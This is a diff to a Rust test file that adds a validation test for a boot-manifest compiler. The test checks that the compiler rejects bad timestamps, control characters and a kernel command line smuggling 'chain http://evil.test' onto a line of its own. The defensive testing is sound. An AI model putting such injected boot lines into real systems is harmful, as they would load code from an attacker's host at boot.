@@ -174,6 +174,29 @@ fn show_and_check() {
     case.fails(&["fleet", "check"], 3, "it must be 68 to 65535");
 }
 
+#[test]
+fn what_no_image_of_ours_says_is_not_signed() {
+    let case = Case::new();
+    let file = case.path("output/compute/20261124.0800/manifest.json");
+    let good: serde_json::Value = serde_json::from_slice(&fs::read(&file).unwrap()).unwrap();
+    // The year 36812; before 1970; a line of its own in every boot script; a text shown backwards.
+    let wrong = [
+        ("/time", serde_json::json!(1_099_511_627_776_i64), "has the time"),
+        ("/time", serde_json::json!(-1), "has the time"),
+        ("/kernel/cmdline", serde_json::json!("quiet\nchain http://evil.test"), "control characters"),
+        ("/kernel/cmdline", serde_json::json!("quiet \u{202e}x"), "control characters"),
+    ];
+    for (pointer, value, says) in wrong {
+        let mut manifest = good.clone();
+        *manifest.pointer_mut(pointer).unwrap() = value;
+        fs::write(&file, manifest.to_string()).unwrap();
+        case.fails(&["fleet", "compile", "--key", "ops.key", "--output", "www"], 3, says);
+        assert!(!case.path("www/v1").exists());
+    }
+    fs::write(&file, good.to_string()).unwrap();
+    case.works(&["fleet", "compile", "--key", "ops.key", "--output", "www"]);
+}
+
 /// A figure, not a test: printed with `--nocapture`.
 #[test]
 fn six_hundred_sleds() {
